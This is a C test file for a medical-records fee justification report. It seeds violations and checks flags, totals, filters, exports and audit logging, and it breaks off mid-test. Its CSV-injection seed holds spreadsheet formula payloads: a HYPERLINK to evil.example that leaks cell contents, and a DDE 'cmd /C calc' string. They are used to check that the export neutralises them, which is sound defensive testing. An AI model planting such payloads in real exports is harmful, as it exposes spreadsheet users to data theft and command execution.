/* test-fee-report.c — the fee justification report on a seeded period:
 * each planted violation is flagged where planted and nowhere else, the
 * totals and turnaround statistics match a hand computation, the CSV
 * round-trips through a CSV parser, the PDF carries the totals, and the
 * auditor runs it all while being unable to change anything */
#include "config.h"

#include <glib/gstdio.h>
#include <string.h>

#include "cst-test-cli.h"
#include "cst-test-db.h"
#include "cst-test-file.h"
#include "cst-test-pdf.h"
#include "cst-test-async.h"

static CstTestDb *db;
static char *clerk_login;   /* issued the invoices issue () wrote */
static char *owner_login;   /* wrote the ones insert_invoice () planted */

typedef struct
{
  const char *name;
  gint64      id;
  guint       flags;      /* planted */
  gint64      charged;
} Seeded;

/* Filled by seed (): the requests of the period and beyond. */
enum { CLEAN, OVERRIDE, ABOVE_MAX, LATE, PATIENT_SEARCH, NO_NOTICE, WITH_NOTICE,
       LATE_NOTICE, OUTSIDE, NOT_INVOICED, N_SEEDED };
static Seeded seeded[N_SEEDED] = {
  { "clean", 0, 0, 0 },
  { "override", 0, CST_FEE_REPORT_FLAG_OVERRIDDEN, 0 },
  /* Planted by the owner as a lying client would have before 0058: more
   * than the quote, "as quoted". */
  { "above-max", 0, CST_FEE_REPORT_FLAG_ABOVE_MAXIMUM | CST_FEE_REPORT_FLAG_NOT_AS_QUOTED, 0 },
  { "late", 0, CST_FEE_REPORT_FLAG_RELEASED_LATE, 0 },
  { "patient-search", 0, CST_FEE_REPORT_FLAG_SEARCH_ON_PATIENT | CST_FEE_REPORT_FLAG_ABOVE_FLAT |
                          CST_FEE_REPORT_FLAG_ABOVE_MAXIMUM | CST_FEE_REPORT_FLAG_NOT_AS_QUOTED, 0 },
  { "no-notice", 0, CST_FEE_REPORT_FLAG_EXTENSION_NO_NOTICE, 0 },
  { "with-notice", 0, 0, 0 },
  { "late-notice", 0, CST_FEE_REPORT_FLAG_EXTENSION_NO_NOTICE, 0 },
  { "outside", 0, CST_FEE_REPORT_FLAG_OVERRIDDEN, 0 },
  { "not-invoiced", 0, 0, 0 },
};

static char *
sql_value (PGconn     *conn,
           const char *sql,
           int         n,
           const char **params)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(PGresult) res = cst_db_exec (conn, sql, n, params, &error);

  g_assert_no_error (error);
  return g_strdup (cst_db_value (res, 0, 0));
}

static gint64
add_request (PGconn     *owner,
             const char *kind,
             const char *received,
             const char *format)
{
  g_autofree char *requester = sql_value (owner,
    "INSERT INTO requesters (kind, name) VALUES ($1::requester_kind, 'Requester') RETURNING id",
    1, (const char *[]) { kind });
  g_autofree char *patient = sql_value (owner, "SELECT id FROM patients LIMIT 1", 0, NULL);
  g_autofree char *id = sql_value (owner,
    "INSERT INTO roi_requests (patient_id, requester_id, received_date, jurisdiction, format,"
    "                          delivery, page_count)"
    " VALUES ($1, $2, $3, 'PA', $4::record_format, 'pickup', 100) RETURNING id",
    4, (const char *[]) { patient, requester, received, format });

  return g_ascii_strtoll (id, NULL, 10);
}

static CstFeeQuote *
quote (CstFeeScheduleSet *set,
       CstFeeRequester    requester,
       const char        *received,
       CstFeeFormat       format,
       CstFeeMethod       method)
{
  g_autoptr(GError) error = NULL;
  CstFeeRequest r;
  CstFeeQuote *q;

  cst_fee_request_init (&r);
  g_assert_true (cst_fee_request_set_jurisdiction (&r, "PA", NULL));
  g_assert_true (cst_input_parse_date (received, &r.received, NULL));
  r.requester = requester;
  r.format = format;
  r.maintained_electronically = format != CST_FEE_FORMAT_PAPER;
  r.pages = 100;
  r.delivery = CST_FEE_DELIVERY_PICKUP;
  r.method = method;
  q = cst_fee_engine_quote (set, &r, &error);
  g_assert_no_error (error);
  return q;
}

static void
issue (PGconn      *clerk,
       Seeded      *s,
       CstFeeQuote *q,
       gint64       charged,
       const char  *reason)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(CstFeeInvoice) invoice = cst_fee_repo_issue_invoice (clerk, s->id, q, charged, reason, &error);

  g_assert_no_error (error);
  s->charged += invoice->total_cents;
}

/* An invoice no clerk could issue, written as the owner: @extra_rule for
 * @extra_cents on top of the quote's lines. */
static void
insert_invoice (PGconn      *owner,
                Seeded      *s,
                CstFeeQuote *q,
                const char  *received,
                const char  *extra_rule,
                gint64       extra_cents)
{
  g_autofree char *lines = cst_fee_quote_lines_to_json (q);
  g_autofree char *id = g_strdup_printf ("%" G_GINT64_FORMAT, s->id);
  g_autofree char *extra = g_strdup_printf ("%" G_GINT64_FORMAT, extra_cents);
  g_autofree char *total = g_strdup_printf ("%" G_GINT64_FORMAT,
                                            cst_fee_quote_get_total_cents (q) + extra_cents);
  const char *params[] = { id, cst_fee_method_to_nick (cst_fee_quote_get_method (q)),
                           received, total, lines, extra_rule, extra };

  cst_test_db_exec_ok (owner,
                       "INSERT INTO invoices (request_id, method, jurisdiction, schedule_version, received_date,"
                       "                      quoted_cents, total_cents, lines, justification)"
                       " VALUES ($1, $2, 'PA', 'PA-2025@1', $3, $4, $4,"
                       "         $5::jsonb || jsonb_build_array (jsonb_build_object ('rule', $6::text,"
                       "           'citation', 'none', 'description', 'Planted', 'quantity', 1,"
                       "           'amount_cents', $7::bigint)), '{}')",
                       G_N_ELEMENTS (params), params);
  s->charged += cst_fee_quote_get_total_cents (q) + extra_cents;
}

static void
disclose (PGconn     *owner,
          Seeded     *s,
          const char *on)
{
  g_autofree char *id = g_strdup_printf ("%" G_GINT64_FORMAT, s->id);

  cst_test_db_exec_ok (owner,
                       "INSERT INTO disclosures (patient_id, request_id, disclosed_on, recipient_name,"
                       "                         phi_description, purpose_statement)"
                       " SELECT patient_id, id, $2, 'Recipient', 'Records', 'Request' FROM roi_requests WHERE id = $1",
                       2, (const char *[]) { id, on });
}

static void
extend (PGconn     *owner,
        Seeded     *s,
        const char *on)
{
  g_autofree char *id = g_strdup_printf ("%" G_GINT64_FORMAT, s->id);

  /* History from before migration 0041, which now refuses an extension
   * without its notice, and from before 0059, when an attorney's request
   * had HIPAA's 30 days and their extension (0059 refuses it: a third
   * party's request has none): the report must still flag such a row. */
  cst_test_db_exec_ok (owner, "ALTER TABLE roi_requests DISABLE TRIGGER roi_requests_check_extension_notice",
                       0, NULL);
  cst_test_db_exec_ok (owner, "ALTER TABLE roi_requests DISABLE TRIGGER roi_requests_before_update", 0, NULL);
  cst_test_db_exec_ok (owner, "UPDATE roi_requests SET extended_on = $2, extension_reason = 'Records off site',"
                 " original_due_date = received_date + 30, due_date = received_date + 60"
                 " WHERE id = $1", 2, (const char *[]) { id, on });
  cst_test_db_exec_ok (owner, "ALTER TABLE roi_requests ENABLE TRIGGER roi_requests_before_update", 0, NULL);
  cst_test_db_exec_ok (owner, "ALTER TABLE roi_requests ENABLE TRIGGER roi_requests_check_extension_notice",
                       0, NULL);
}

static void
seed (void)
{
  g_autoptr(PGconn) owner = cst_test_db_connect (db);
  g_autofree char *clerk_info = cst_test_db_create_login (db, "custodian_clerk");
  g_autoptr(PGconn) clerk = cst_db_connect (clerk_info, NULL);
  g_autoptr(CstFeeScheduleSet) set = cst_fee_repo_load_schedules (owner, NULL);
  g_autoptr(CstFeeQuote) attorney = quote (set, CST_FEE_REQUESTER_ATTORNEY, "2025-06-02",
                                           CST_FEE_FORMAT_PAPER, CST_FEE_METHOD_DEFAULT);
  g_autoptr(CstFeeQuote) flat = quote (set, CST_FEE_REQUESTER_PATIENT, "2025-06-02",
                                       CST_FEE_FORMAT_ELECTRONIC, CST_FEE_METHOD_HIPAA_FLAT);
  /* The server invoices a request only as quoted for its own received
   * date (0058). */
  g_autoptr(CstFeeQuote) attorney_july = quote (set, CST_FEE_REQUESTER_ATTORNEY, "2025-07-01",
                                                CST_FEE_FORMAT_PAPER, CST_FEE_METHOD_DEFAULT);
  g_autoptr(CstFeeQuote) attorney_august = quote (set, CST_FEE_REQUESTER_ATTORNEY, "2025-08-15",
                                                  CST_FEE_FORMAT_PAPER, CST_FEE_METHOD_DEFAULT);
  g_autoptr(CstFeeQuote) flat_july = quote (set, CST_FEE_REQUESTER_PATIENT, "2025-07-01",
                                            CST_FEE_FORMAT_ELECTRONIC, CST_FEE_METHOD_HIPAA_FLAT);
  g_autofree char *template_id = NULL;
  g_autofree char *no_notice_id = NULL;

  clerk_login = sql_value (clerk, "SELECT session_user", 0, NULL);
  owner_login = sql_value (owner, "SELECT session_user", 0, NULL);
  g_object_unref (cst_test_db_add_request (owner, "REPORT-1"));
  for (guint i = 0; i < N_SEEDED; i++)
    {
      gboolean patient = i == LATE || i == PATIENT_SEARCH;
      const char *received = i == OUTSIDE ? "2025-08-15" : i >= ABOVE_MAX ? "2025-07-01" : "2025-06-02";

      seeded[i].id = add_request (owner, patient ? "patient" : "attorney", received,
                                  patient ? "electronic" : "paper");
    }
  issue (clerk, &seeded[CLEAN], attorney, CST_FEE_UNSET, NULL);
  issue (clerk, &seeded[OVERRIDE], attorney, cst_fee_quote_get_total_cents (attorney) - 1000,
         "Courtesy discount, policy 4.2");
  issue (clerk, &seeded[NO_NOTICE], attorney_july, CST_FEE_UNSET, NULL);
  issue (clerk, &seeded[WITH_NOTICE], attorney_july, CST_FEE_UNSET, NULL);
  issue (clerk, &seeded[LATE_NOTICE], attorney_july, CST_FEE_UNSET, NULL);
  issue (clerk, &seeded[OUTSIDE], attorney_august, 0, "Waived");
  issue (clerk, &seeded[LATE], flat_july, CST_FEE_UNSET, NULL);
  insert_invoice (owner, &seeded[ABOVE_MAX], attorney, "2025-07-01", "courier-surcharge", 5000);
  insert_invoice (owner, &seeded[PATIENT_SEARCH], flat, "2025-07-01", "request-fee", 2874);

  disclose (owner, &seeded[CLEAN], "2025-06-10");      /* 8 days */
  disclose (owner, &seeded[OVERRIDE], "2025-06-17");   /* 15 days */
  disclose (owner, &seeded[LATE], "2025-08-30");       /* 60 days, due 30 days at most */
  extend (owner, &seeded[NO_NOTICE], "2025-07-10");
  extend (owner, &seeded[WITH_NOTICE], "2025-07-10");
  extend (owner, &seeded[LATE_NOTICE], "2025-07-10");
  cst_test_db_exec_ok (owner, "SELECT document_template_install_default ('extension-notice', 'en', 'Notice')", 0, NULL);
  template_id = sql_value (owner, "SELECT id FROM document_templates WHERE kind = 'extension-notice' LIMIT 1",
                           0, NULL);
  no_notice_id = g_strdup_printf ("%" G_GINT64_FORMAT, seeded[WITH_NOTICE].id);
  cst_test_db_exec_ok (owner, "INSERT INTO rendered_documents (request_id, template_id, page_count, sha256, rendered_at)"
                 " VALUES ($1, $2, 1, repeat ('a', 64), '2025-07-05')", 2,
          (const char *[]) { no_notice_id, template_id });
  /* A notice rendered after the original due date (2025-07-31) is no notice. */
  g_clear_pointer (&no_notice_id, g_free);
  no_notice_id = g_strdup_printf ("%" G_GINT64_FORMAT, seeded[LATE_NOTICE].id);
  cst_test_db_exec_ok (owner, "INSERT INTO rendered_documents (request_id, template_id, page_count, sha256, rendered_at)"
                 " VALUES ($1, $2, 1, repeat ('c', 64), '2025-08-15')", 2,
          (const char *[]) { no_notice_id, template_id });
  /* A rendered document of another kind is no extension notice. */
  g_clear_pointer (&no_notice_id, g_free);
  no_notice_id = g_strdup_printf ("%" G_GINT64_FORMAT, seeded[NO_NOTICE].id);
  cst_test_db_exec_ok (owner, "SELECT document_template_install_default ('cover-letter', 'en', 'Letter')", 0, NULL);
  cst_test_db_exec_ok (owner, "INSERT INTO rendered_documents (request_id, template_id, page_count, sha256)"
                 " SELECT $1, id, 1, repeat ('b', 64) FROM document_templates WHERE kind = 'cover-letter'",
          1, (const char *[]) { no_notice_id });
  /* One request of the period in another status, for the status filter. */
  g_clear_pointer (&no_notice_id, g_free);
  no_notice_id = g_strdup_printf ("%" G_GINT64_FORMAT, seeded[WITH_NOTICE].id);
  cst_test_db_exec_ok (owner, "UPDATE roi_requests SET status = 'cancelled' WHERE id = $1", 1,
                       (const char *[]) { no_notice_id });
}

static void
period (CstFeeReportFilter *filter)
{
  memset (filter, 0, sizeof *filter);
  g_assert_true (cst_input_parse_date ("2025-06-01", &filter->from, NULL));
  g_assert_true (cst_input_parse_date ("2025-07-31", &filter->to, NULL));
}

static Seeded *
find_seeded (gint64 id)
{
  for (guint i = 0; i < N_SEEDED; i++)
    if (seeded[i].id == id)
      return &seeded[i];
  return NULL;
}

typedef struct
{
  guint seen;           /* bit per seeded index */
  gint64 n_rows;
} Seen;

static gboolean
check_row (const CstFeeReportRow *row,
           gpointer               user_data,
           GError               **error)
{
  Seen *seen = user_data;
  Seeded *s = find_seeded (row->request_id);

  g_assert_nonnull (s);
  if (row->flags != s->flags)
    g_error ("request “%s”: flags %s, planted %s", s->name,
             cst_fee_report_flags_to_string (row->flags), cst_fee_report_flags_to_string (s->flags));
  g_assert_cmpint (row->total_cents, ==, s->charged);
  g_assert_cmpuint (row->n_lines, >, 0);
  if (row->flags & CST_FEE_REPORT_FLAG_OVERRIDDEN)
    g_assert_cmpstr (row->override_reason, ==, "Courtesy discount, policy 4.2");
  seen->seen |= 1u << (s - seeded);
  seen->n_rows++;
  return TRUE;
}

static void
assert_summary (const CstFeeReportSummary *summary)
{
  gint64 expected = 0;

  for (guint i = 0; i < N_SEEDED; i++)
    if (i != OUTSIDE && i != NOT_INVOICED)
      expected += seeded[i].charged;
  g_assert_cmpint (cst_fee_report_summary_get_n_requests (summary), ==, 8);
  g_assert_cmpint (cst_fee_report_summary_get_flag_count (summary, CST_FEE_REPORT_FLAG_EXTENSION_NO_NOTICE), ==, 2);
  g_assert_cmpint (cst_fee_report_summary_get_total_cents (summary), ==, expected);
  g_assert_cmpint (cst_fee_report_summary_get_flag_count (summary, CST_FEE_REPORT_FLAG_ABOVE_MAXIMUM), ==, 2);
  g_assert_cmpint (cst_fee_report_summary_get_flag_count (summary, CST_FEE_REPORT_FLAG_OVERRIDDEN), ==, 1);
  g_assert_cmpint (cst_fee_report_summary_get_flag_count (summary, CST_FEE_REPORT_FLAG_RELEASED_LATE), ==, 1);
  g_assert_cmpint (cst_fee_report_summary_get_flag_count (summary, CST_FEE_REPORT_FLAG_NOT_AS_QUOTED), ==, 2);
  /* Turnarounds 8, 15 and 60 days: nearest-rank median 15, p90 60. */
  g_assert_cmpint (cst_fee_report_summary_get_n_released (summary), ==, 3);
  g_assert_cmpint (cst_fee_report_summary_get_median_days (summary), ==, 15);
  g_assert_cmpint (cst_fee_report_summary_get_p90_days (summary), ==, 60);
  g_assert_cmpint (cst_fee_report_summary_get_within_permille (summary, 15), ==, 666);
  g_assert_cmpint (cst_fee_report_summary_get_within_permille (summary, 30), ==, 666);
  {
    g_autofree char *said = cst_fee_report_summary_describe_turnaround (summary);

    g_assert_cmpstr (said, ==, "Released: 3. Median turnaround 15 days, 90th percentile 60 days; "
                               "66.6% within 15 days, 66.6% within 30 days.");
  }
  g_assert_cmpuint (cst_fee_report_summary_get_buckets (summary, "month")->len, ==, 2);
  g_assert_cmpuint (cst_fee_report_summary_get_buckets (summary, "requester")->len, ==, 2);
}

static void
test_flags_and_totals (void)
{
  g_autofree char *auditor_info = cst_test_db_create_login (db, "custodian_auditor");
  g_autoptr(PGconn) auditor = cst_db_connect (auditor_info, NULL);
  g_autoptr(CstFeeReportSummary) summary = NULL;
  g_autoptr(CstFeeReportSummary) patients = NULL;
  g_autoptr(GError) error = NULL;
  CstFeeReportFilter filter;
  Seen seen = { 0 };
  guint expected_seen = 0;

  period (&filter);
  g_assert_true (cst_fee_report_run (auditor, &filter, check_row, &seen, &summary, &error));
  g_assert_no_error (error);
  for (guint i = 0; i < N_SEEDED; i++)
    if (i != OUTSIDE && i != NOT_INVOICED)
      expected_seen |= 1u << i;
  g_assert_cmpuint (seen.seen, ==, expected_seen);
  assert_summary (summary);

  /* Filters: the two patient requests; nothing in New York. */
  filter.requester = "patient";
  g_assert_true (cst_fee_report_run (auditor, &filter, NULL, NULL, &patients, &error));
  g_assert_cmpint (cst_fee_report_summary_get_n_requests (patients), ==, 2);
  g_clear_pointer (&patients, cst_fee_report_summary_free);
  filter.requester = NULL;
  filter.jurisdiction = "NY";
  g_assert_true (cst_fee_report_run (auditor, &filter, NULL, NULL, &patients, &error));
  g_assert_cmpint (cst_fee_report_summary_get_n_requests (patients), ==, 0);

  /* A reversed period is refused. */
  g_clear_pointer (&patients, cst_fee_report_summary_free);
  g_assert_true (cst_input_parse_date ("2025-05-01", &filter.to, NULL));
  g_assert_false (cst_fee_report_run (auditor, &filter, NULL, NULL, NULL, &error));
  g_assert_error (error, CST_ERROR, CST_ERROR_INVALID_INPUT);
}

static gboolean
collect_id (const CstFeeReportRow *row,
            gpointer               user_data,
            GError               **error)
{
  Seen *seen = user_data;
  Seeded *s = find_seeded (row->request_id);

  g_assert_nonnull (s);
  seen->seen |= 1u << (s - seeded);
  seen->n_rows++;
  return TRUE;
}

/* The seeded indexes the report returns for @filter, as bits. */
static guint
reported (PGconn                   *conn,
          const CstFeeReportFilter *filter)
{
  g_autoptr(GError) error = NULL;
  Seen seen = { 0 };

  g_assert_true (cst_fee_report_run (conn, filter, collect_id, &seen, NULL, &error));
  g_assert_no_error (error);
  return seen.seen;
}

#define BIT(i) (1u << (i))

/* Each filter keeps what it names and drops the rest: the clerk by the
 * login that issued an invoice, the status by the request's status now;
 * a misspelt status or class is an error, not an empty report. */
static void
test_filters (void)
{
  g_autofree char *auditor_info = cst_test_db_create_login (db, "custodian_auditor");
  g_autoptr(PGconn) auditor = cst_db_connect (auditor_info, NULL);
  g_autoptr(GError) error = NULL;
  guint in_period = 0;
  guint by_clerk = BIT (CLEAN) | BIT (OVERRIDE) | BIT (LATE) | BIT (NO_NOTICE) |
                   BIT (WITH_NOTICE) | BIT (LATE_NOTICE);
  CstFeeReportFilter filter;

  for (guint i = 0; i < N_SEEDED; i++)
    if (i != OUTSIDE && i != NOT_INVOICED)
      in_period |= BIT (i);
  period (&filter);
  g_assert_cmpuint (reported (auditor, &filter), ==, in_period);

  filter.clerk = clerk_login;
  g_assert_cmpuint (reported (auditor, &filter), ==, by_clerk);
  filter.clerk = owner_login;
  g_assert_cmpuint (reported (auditor, &filter), ==, BIT (ABOVE_MAX) | BIT (PATIENT_SEARCH));
  filter.clerk = "nobody_at_all";
  g_assert_cmpuint (reported (auditor, &filter), ==, 0);
  filter.clerk = NULL;

  filter.status = "cancelled";
  g_assert_cmpuint (reported (auditor, &filter), ==, BIT (WITH_NOTICE));
  filter.status = "received";
  g_assert_cmpuint (reported (auditor, &filter), ==, in_period & ~BIT (WITH_NOTICE));
  filter.status = "released";
  g_assert_cmpuint (reported (auditor, &filter), ==, 0);

  /* Filters combine: the clerk's received attorney requests. */
  filter.status = "received";
  filter.clerk = clerk_login;
  filter.requester = "attorney";
  g_assert_cmpuint (reported (auditor, &filter), ==,
                    by_clerk & ~BIT (WITH_NOTICE) & ~BIT (LATE));

  filter.requester = NULL;
  filter.status = "shipped";
  g_assert_false (cst_fee_report_run (auditor, &filter, NULL, NULL, NULL, &error));
  g_assert_error (error, CST_ERROR, CST_ERROR_INVALID_INPUT);
  g_assert_nonnull (strstr (error->message, "shipped"));
  g_clear_error (&error);
  filter.status = NULL;
  filter.requester = "lawyer";
  g_assert_false (cst_fee_report_run (auditor, &filter, NULL, NULL, NULL, &error));
  g_assert_error (error, CST_ERROR, CST_ERROR_INVALID_INPUT);
}

/* A cancelled report stops with G_IO_ERROR_CANCELLED, and an export
 * cancelled (or failing) leaves no file, not even its temporary one; a
 * good export leaves only the file asked for. */
static void
test_cancel_and_export_file (void)
{
  g_autofree char *auditor_info = cst_test_db_create_login (db, "custodian_auditor");
  g_autoptr(PGconn) auditor = cst_db_connect (auditor_info, NULL);
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("fee-report-export-XXXXXX", NULL);
  g_autofree char *path = g_build_filename (dir, "report.csv", NULL);
  g_autoptr(CstFeeReportSummary) summary = NULL;
  g_autoptr(GDir) listing = NULL;
  CstFeeReportFormat formats[] = { CST_FEE_REPORT_FORMAT_CSV, CST_FEE_REPORT_FORMAT_PDF };
  CstFeeReportFilter filter;

  period (&filter);
  filter.cancellable = cancellable;
  g_cancellable_cancel (cancellable);
  g_assert_false (cst_fee_report_run (auditor, &filter, NULL, NULL, NULL, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_clear_error (&error);
  /* The connection is usable again after a cancelled run. */
  g_assert_cmpint (PQtransactionStatus (auditor), ==, PQTRANS_IDLE);
  for (guint i = 0; i < G_N_ELEMENTS (formats); i++)
    {
      g_assert_false (cst_fee_report_export_file (auditor, &filter, formats[i], path, NULL, &error));
      g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
      g_clear_error (&error);
      listing = g_dir_open (dir, 0, NULL);
      g_assert_null (g_dir_read_name (listing));
      g_clear_pointer (&listing, g_dir_close);
    }

  filter.cancellable = NULL;
  cst_test_file_make_public (path);
  g_assert_true (cst_fee_report_export_file (auditor, &filter, CST_FEE_REPORT_FORMAT_CSV, path,
                                             &summary, &error));
  g_assert_no_error (error);
  cst_test_file_assert_private (path);
  g_assert_cmpint (cst_fee_report_summary_get_n_requests (summary), ==, 8);
  /* Only the export that was written is in the audit log, under the
   * auditor's login. */
  {
    g_autoptr(PGconn) owner = cst_test_db_connect (db);
    g_autofree char *n = sql_value (owner,
      "SELECT count (*) FROM audit_log WHERE action = 'EVENT' AND new_row->>'kind' = 'report.exported'"
      "   AND actor = (SELECT rolname FROM pg_roles WHERE rolname = $1)", 1,
      (const char *[]) { PQuser (auditor) });

    g_assert_cmpstr (n, ==, "1");
  }
  listing = g_dir_open (dir, 0, NULL);
  g_assert_cmpstr (g_dir_read_name (listing), ==, "report.csv");
  g_assert_null (g_dir_read_name (listing));
  g_unlink (path);
  g_rmdir (dir);
}

static void
cancel_on_progress (gint64   n_done,
                    gpointer user_data)
{
  g_cancellable_cancel (user_data);
}

/* A PDF export cancelled once the rows are flowing (the progress of the
 * first, measuring pass cancels it) stops with G_IO_ERROR_CANCELLED and
 * leaves no file: pages already written went to the temporary file,
 * which is removed. */
static void
test_pdf_cancelled_midway (void)
{
  g_autofree char *auditor_info = cst_test_db_create_login (db, "custodian_auditor");
  g_autoptr(PGconn) auditor = cst_db_connect (auditor_info, NULL);
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("fee-report-cancel-XXXXXX", NULL);
  g_autofree char *path = g_build_filename (dir, "report.pdf", NULL);
  g_autoptr(GDir) listing = NULL;
  CstFeeReportFilter filter;

  period (&filter);
  filter.cancellable = cancellable;
  filter.progress = cancel_on_progress;
  filter.progress_data = cancellable;
  g_assert_false (cst_fee_report_export_file (auditor, &filter, CST_FEE_REPORT_FORMAT_PDF, path,
                                              NULL, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_assert_true (g_cancellable_is_cancelled (cancellable));
  g_assert_cmpint (PQtransactionStatus (auditor), ==, PQTRANS_IDLE);
  listing = g_dir_open (dir, 0, NULL);
  g_assert_null (g_dir_read_name (listing));
  g_rmdir (dir);
}

/* RFC 4180: fields split on commas outside quotes, "" inside quotes is a
 * quote, records end with CRLF. */
static GPtrArray *
parse_csv (const char *text)
{
  GPtrArray *records = g_ptr_array_new_with_free_func ((GDestroyNotify) g_strfreev);
  GPtrArray *fields = g_ptr_array_new ();
  GString *field = g_string_new (NULL);
  gboolean quoted = FALSE;

  for (const char *p = text; *p; p++)
    {
      if (quoted)
        {
          if (*p == '"' && p[1] == '"')
            g_string_append_c (field, *p++);
          else if (*p == '"')
            quoted = FALSE;
          else
            g_string_append_c (field, *p);
        }
      else if (*p == '"')
        quoted = TRUE;
      else if (*p == ',')
        g_ptr_array_add (fields, g_strdup (field->str)), g_string_truncate (field, 0);
      else if (*p == '\r' && p[1] == '\n')
        {
          g_ptr_array_add (fields, g_strdup (field->str));
          g_string_truncate (field, 0);
          g_ptr_array_add (fields, NULL);
          g_ptr_array_add (records, g_ptr_array_free (fields, FALSE));
          fields = g_ptr_array_new ();
          p++;
        }
      else
        g_string_append_c (field, *p);
    }
  g_assert_false (quoted);
  g_assert_cmpuint (fields->len, ==, 0);
  g_ptr_array_free (fields, TRUE);
  g_string_free (field, TRUE);
  return records;
}

static int
column (const char *name)
{
  for (int i = 0; cst_fee_report_csv_columns[i]; i++)
    if (strcmp (cst_fee_report_csv_columns[i], name) == 0)
      return i;
  g_assert_not_reached ();
}

static void
test_csv (void)
{
  g_autofree char *auditor_info = cst_test_db_create_login (db, "custodian_auditor");
  g_autoptr(PGconn) auditor = cst_db_connect (auditor_info, NULL);
  g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
  g_autoptr(CstFeeReportSummary) summary = NULL;
  g_autoptr(GPtrArray) records = NULL;
  g_autoptr(GHashTable) totals = g_hash_table_new (g_str_hash, g_str_equal);
  g_autoptr(GError) error = NULL;
  g_autofree char *text = NULL;
  CstFeeReportFilter filter;
  gint64 line_sum = 0, flagged_override = 0;
  guint n_columns = g_strv_length ((char **) cst_fee_report_csv_columns);

  period (&filter);
  g_assert_true (cst_fee_report_write_csv (auditor, &filter, out, &summary, &error));
  g_assert_no_error (error);
  g_assert_true (g_output_stream_write_all (out, "", 1, NULL, NULL, NULL));
  g_output_stream_close (out, NULL, NULL);
  text = g_memory_output_stream_steal_data (G_MEMORY_OUTPUT_STREAM (out));
  g_assert_true (g_utf8_validate (text, -1, NULL));
  records = parse_csv (text);
  g_assert_cmpuint (records->len, ==, 1 + cst_fee_report_summary_get_n_lines (summary));
  g_assert_cmpstrv ((const char *const *) g_ptr_array_index (records, 0), cst_fee_report_csv_columns);
  for (guint r = 1; r < records->len; r++)
    {
      char **f = g_ptr_array_index (records, r);

      g_assert_cmpuint (g_strv_length (f), ==, n_columns);
      line_sum += g_ascii_strtoll (f[column ("amount_cents")], NULL, 10);
      g_hash_table_insert (totals, f[column ("reference")], f[column ("request_total_cents")]);
      if (strcmp (f[column ("override_reason")], "Courtesy discount, policy 4.2") == 0)
        {
          g_assert_cmpstr (f[column ("flags")], ==, "overridden");
          flagged_override++;
        }
      if (strstr (f[column ("flags")], "search-on-patient") != NULL)
        g_assert_cmpstr (f[column ("flags")], ==, "above-maximum;search-on-patient;above-flat;not-as-quoted");
    }
  /* The quoted field with a comma came back whole; the lines add up to the
   * charged totals except for the override's discount. */
  g_assert_cmpint (flagged_override, >, 0);
  g_assert_cmpuint (g_hash_table_size (totals), ==, 8);
  g_assert_cmpint (line_sum, ==, cst_fee_report_summary_get_total_cents (summary) + 1000);
}

/* A period of its own (March 2024) with text a spreadsheet would run: an
 * override reason, a rule, a citation and a description typed to start
 * with "=", "@", "+" and "-", a requester named like a formula, and an
 * adjustment that credits 500 cents. */
static gint64
seed_injection (void)
{
  g_autoptr(PGconn) owner = cst_test_db_connect (db);
  g_autofree char *requester = sql_value (owner,
    "INSERT INTO requesters (kind, name) VALUES ('attorney',"
    " '=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")') RETURNING id", 0, NULL);
  g_autofree char *patient = sql_value (owner, "SELECT id FROM patients LIMIT 1", 0, NULL);
  g_autofree char *id = sql_value (owner,
    "INSERT INTO roi_requests (patient_id, requester_id, received_date, jurisdiction, format, delivery)"
    " VALUES ($1, $2, '2024-03-04', 'PA', 'paper', 'pickup') RETURNING id",
    2, (const char *[]) { patient, requester });
  g_autofree char *invoice = sql_value (owner,
    "INSERT INTO invoices (request_id, method, jurisdiction, received_date, quoted_cents, total_cents,"
    "                      lines, justification, override_reason)"
    " VALUES ($1, 'state-schedule', 'PA', '2024-03-04', 700, 700,"
    "         jsonb_build_array (jsonb_build_object ('rule', '@SUM(1+1)*cmd|'' /C calc''!A0',"
    "           'citation', '+1 Pa. Code 1', 'description', E'\\t-2 pages', 'quantity', 1,"
    "           'amount_cents', 700)), '{}', '=HYPERLINK(\"http://evil.example/\",\"Why\")')"
    " RETURNING id", 1, (const char *[]) { id });

  cst_test_db_exec_ok (owner,
                       "INSERT INTO invoices (request_id, adjusts_invoice_id, method, jurisdiction, received_date,"
                       "                      quoted_cents, total_cents, lines, justification, override_reason)"
                       " VALUES ($1, $2, 'adjustment', 'PA', '2024-03-04', 0, -500,"
                       "         '[{\"rule\": \"adjustment\", \"citation\": \"\", \"description\": \"Refund\","
                       "           \"quantity\": 1, \"amount_cents\": -500}]', '{}', '-500 refunded')",
                       2, (const char *[]) { id, invoice });
  return g_ascii_strtoll (id, NULL, 10);
}

static gboolean
looks_like_integer (const char *text)
{
  const char *p = text[0] == '-' ? text + 1 : text;

  if (*p == '\0')
    return FALSE;
  for (; *p; p++)
    if (!g_ascii_isdigit (*p))
      return FALSE;
  return TRUE;
}

static void
test_csv_injection (void)
{
  g_autofree char *auditor_info = cst_test_db_create_login (db, "custodian_auditor");
  g_autoptr(PGconn) auditor = cst_db_connect (auditor_info, NULL);
  g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
  g_autoptr(GPtrArray) records = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *text = NULL;
  CstFeeReportFilter filter = { 0 };
  guint n_checked = 0;

  seed_injection ();
  g_assert_true (cst_input_parse_date ("2024-03-01", &filter.from, NULL));
  g_assert_true (cst_input_parse_date ("2024-03-31", &filter.to, NULL));
  g_assert_true (cst_fee_report_write_csv (auditor, &filter, out, NULL, &error));
  g_assert_no_error (error);
  g_assert_true (g_output_stream_write_all (out, "", 1, NULL, NULL, NULL));
  g_output_stream_close (out, NULL, NULL);
  text = g_memory_output_stream_steal_data (G_MEMORY_OUTPUT_STREAM (out));
  g_assert_null (strstr (text, "\"=HYPERLINK"));
  g_assert_null (strstr (text, ",=HYPERLINK"));
  records = parse_csv (text);
